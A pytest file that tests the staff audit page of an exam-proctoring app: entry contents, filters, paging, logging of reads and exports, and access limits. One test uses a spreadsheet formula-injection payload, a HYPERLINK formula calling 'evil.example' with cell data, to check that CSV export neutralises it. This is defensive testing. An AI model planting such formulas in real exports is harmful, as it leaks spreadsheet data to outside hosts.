"""An audit page answers who saw, changed or exported what."""

import csv
import io
from functools import partial
from typing import Any

import httpx2
import msgspec
import pytest

from invigilator.app.demo import DEMO_SLUG
from invigilator.audit import WORDS, Search
from invigilator.identity import (
    STAFF_COOKIE,
    Account,
    Caller,
    NotAllowed,
    Permission,
    Posting,
    Role,
)
from invigilator.review import RecordingViewed
from invigilator.wire import guarded
from tests.support.candidate import CandidateClient
from tests.support.installation import Installation

pytestmark = [pytest.mark.anyio, pytest.mark.usefixtures("either_engine")]

MINUTE_MS = 60_000


class Watched:
    """An installation whose audit page is brought up to date by hand."""

    def __init__(self, place: Installation) -> None:
        self.place = place

    async def staff(self, account: str) -> httpx2.AsyncClient:
        parts = self.place.parts
        signed_in = await parts.identity.sign_in(account, f"{account}123", "10.0.0.9")
        http = self.place.client()
        http.cookies.set(STAFF_COOKIE, signed_in.token)
        return http

    async def sitting(self, username: str = "priya_s", **fields: Any) -> str:
        async with self.place.client() as http:
            candidate = CandidateClient(http)
            await candidate.start(username, **fields)
            return candidate.session_id

    async def catch_up(self) -> None:
        """What the follower does, from the beginning."""
        parts, after = self.place.parts, 0
        kinds = sorted(WORDS)
        while page := await parts.database.read(
            partial(parts.journal.after, sequence=after, kinds=kinds)
        ):
            await parts.database.write(partial(parts.audit.project, facts=page))
            after = page[-1].sequence

    async def facts(self, kind: str) -> list[dict[str, Any]]:
        journal = self.place.parts.journal
        found = await self.place.parts.database.read(lambda tx: journal.after(tx, 0, kinds=[kind]))
        return [msgspec.json.decode(fact.body) for fact in found]


@pytest.fixture
def watched(place: Installation) -> Watched:
    return Watched(place)


async def entries_of(http: httpx2.AsyncClient, **query: Any) -> list[dict[str, Any]]:
    answer = await http.get("/api/staff/audit", params=query)
    assert answer.status_code == 200, answer.text
    entries: list[dict[str, Any]] = answer.json()["entries"]
    return entries


async def test_a_view_of_a_recording_is_on_the_page_with_whose_it_was(watched: Watched) -> None:
    session_id = await watched.sitting(username="Priya_S")
    reviewer, admin = await watched.staff("reviewer"), await watched.staff("admin")
    await reviewer.get(f"/api/review/sittings/{session_id}")
    await watched.catch_up()
    [entry] = await entries_of(admin, what="recording_viewed")
    entry.pop("sequence")
    account_id = entry["detail"].pop("account_id")
    assert len(account_id) == 36
    assert entry == {
        "at_ms": watched.place.clock.now_ms(),
        "by": "reviewer",
        "what": "recording_viewed",
        "words": "looked at a recording",
        "contest_slug": DEMO_SLUG,
        "session_id": session_id,
        "hackerrank_username": "Priya_S",
        "detail": {},
    }


async def test_what_nobody_of_staff_did_is_not_on_the_page(watched: Watched) -> None:
    session_id = await watched.sitting()
    async with watched.place.client() as http:
        candidate = CandidateClient(http)
        await candidate.start("ravi")
        await candidate.call("/api/session/end", assurance_accepted=True)
    await watched.catch_up()
    assert await watched.facts("sitting_changed")
    entries = await entries_of(await watched.staff("admin"))
    assert session_id not in {entry["session_id"] for entry in entries}
    assert "candidate" not in {entry["by"] for entry in entries}


async def test_entries_come_newest_first_and_in_pages(watched: Watched) -> None:
    admin = await watched.staff("admin")
    for _ in range(5):
        await watched.staff("reviewer")
    await watched.catch_up()
    seen: list[int] = []
    after = ""
    while True:
        query: dict[str, Any] = {"by": "reviewer", "what": "signed_in", "limit": 2, "after": after}
        body = (await admin.get("/api/staff/audit", params=query)).json()
        seen += [entry["sequence"] for entry in body["entries"]]
        after = body["next"]
        if after is None:
            break
    assert len(seen) == 5
    assert seen == sorted(seen, reverse=True)


async def test_filters_are_the_querys(watched: Watched) -> None:
    one, other = await watched.sitting("one"), await watched.sitting("two")
    reviewer, admin = await watched.staff("reviewer"), await watched.staff("admin")
    for http, session_id in ((reviewer, one), (reviewer, other), (admin, one)):
        await http.get(f"/api/review/sittings/{session_id}")
    await watched.catch_up()
    looks = {"what": "recording_viewed"}
    assert len(await entries_of(admin, **looks)) == 3
    assert len(await entries_of(admin, session_id=one)) == 2
    assert len(await entries_of(admin, by="reviewer", **looks)) == 2
    assert len(await entries_of(admin, contest_slug=DEMO_SLUG, **looks)) == 3
    assert await entries_of(admin, contest_slug="another-exam") == []


async def test_projecting_twice_says_it_once(watched: Watched) -> None:
    await watched.staff("reviewer")
    admin = await watched.staff("admin")
    await watched.catch_up()
    await watched.catch_up()
    assert len(await entries_of(admin, what="signed_in", by="reviewer")) == 1


async def test_reading_the_page_is_written_down_once_for_ten_minutes(watched: Watched) -> None:
    admin = await watched.staff("admin")
    for _ in range(3):
        await entries_of(admin)
        watched.place.clock.advance(3 * MINUTE_MS)
    assert [fact["by"] for fact in await watched.facts("audit_read")] == ["admin"]
    watched.place.clock.advance(MINUTE_MS)
    await entries_of(admin)
    assert len(await watched.facts("audit_read")) == 2
    await watched.catch_up()
    assert len(await entries_of(admin, what="audit_read")) == 2


async def test_an_export_is_written_down_each_time_with_what_was_asked(watched: Watched) -> None:
    admin = await watched.staff("admin")
    for _ in range(2):
        await admin.get("/api/staff/audit.csv", params={"by": "reviewer"})
    exported = await watched.facts("audit_exported")
    assert [(fact["by"], fact["of_by"]) for fact in exported] == [("admin", "reviewer")] * 2


async def test_a_spreadsheet_takes_no_name_for_a_formula(watched: Watched) -> None:
    admin = await watched.staff("admin")
    formula = '=HYPERLINK("https://evil.example/?"&A1)'
    await _view(watched, await watched.sitting(formula), by="@reviewer")
    for index in range(1001):
        await _view(watched, f"session {index}", by="+1")
    await watched.catch_up()
    answer = await admin.get("/api/staff/audit.csv", params={"what": "recording_viewed"})
    assert answer.headers["content-type"].startswith("text/csv")
    assert "attachment" in answer.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    assert len(rows) == 1002
    assert (rows[-1]["hackerrank_username"], rows[-1]["by"]) == (f"'{formula}", "'@reviewer")
    cells = [cell for row in rows for cell in row.values()]
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r"])
def test_every_beginning_of_a_formula_is_guarded(begin: str) -> None:
    assert guarded(f"{begin}1") == f"'{begin}1"
    assert guarded(f"1{begin}") == f"1{begin}"


@pytest.mark.parametrize("account", ["proctor", "reviewer"])
async def test_only_administrators_read_it(watched: Watched, account: str) -> None:
    http = await watched.staff(account)
    for path in ("/api/staff/audit", "/api/staff/audit.csv"):
        assert (await http.get(path)).status_code == 403
        assert (await watched.place.client().get(path)).status_code == 401
    assert await watched.facts("audit_read") == []


@pytest.mark.parametrize("query", [{"after": "x"}, {"limit": 0}, {"limit": 501}])
async def test_a_query_that_cannot_be_is_refused(watched: Watched, query: dict[str, Any]) -> None:
    admin = await watched.staff("admin")
    assert (await admin.get("/api/staff/audit", params=query)).status_code == 400


async def test_a_posted_administrator_sees_what_happened_where_they_are(watched: Watched) -> None:
    first = await watched.sitting("one", room="Room 1")
    second = await watched.sitting("two", room="Room 2")
    for session_id in (first, second):
        await _view(watched, session_id, by="reviewer")
    await _view(watched, "elsewhere", by="reviewer", exam_slug="another-exam")
    await watched.catch_up()

    async def seen(*postings: Posting, exam_slug: str = "") -> set[str]:
        search = Search(exam_slug=exam_slug, what="recording_viewed")
        page, _ = await watched.place.parts.audit.page(
            _administrator(*postings), search, before=None, limit=100
        )
        return {entry.session_id for entry in page}

    assert await seen() == {first, second, "elsewhere"}
    assert await seen(Posting(DEMO_SLUG)) == {first, second}
    assert await seen(Posting(DEMO_SLUG, "Room 2")) == {second}
    both = (Posting("another-exam"), Posting(DEMO_SLUG, "Room 2"))
    assert await seen(*both) == {second, "elsewhere"}
    with pytest.raises(NotAllowed):
        await seen(Posting(DEMO_SLUG), exam_slug="another-exam")


def _administrator(*postings: Posting) -> Caller:
    account = Account(
        id="00000000-0000-0000-0000-000000000001",
        name="meera",
        display_name="Meera",
        role=Role.ADMINISTRATOR,
        created_at_ms=0,
        is_demo=False,
    )
    permissions = frozenset(Permission)
    return Caller(name="meera", permissions=permissions, postings=postings, account=account)


async def _view(watched: Watched, session_id: str, *, by: str, exam_slug: str = DEMO_SLUG) -> None:
    """A look at a recording, as review writes it."""
    parts = watched.place.parts
    fact = RecordingViewed(session_id=session_id, exam_slug=exam_slug, account_id="a", by=by)
    await parts.database.write(lambda tx: parts.journal.append(tx, "test", [fact]))
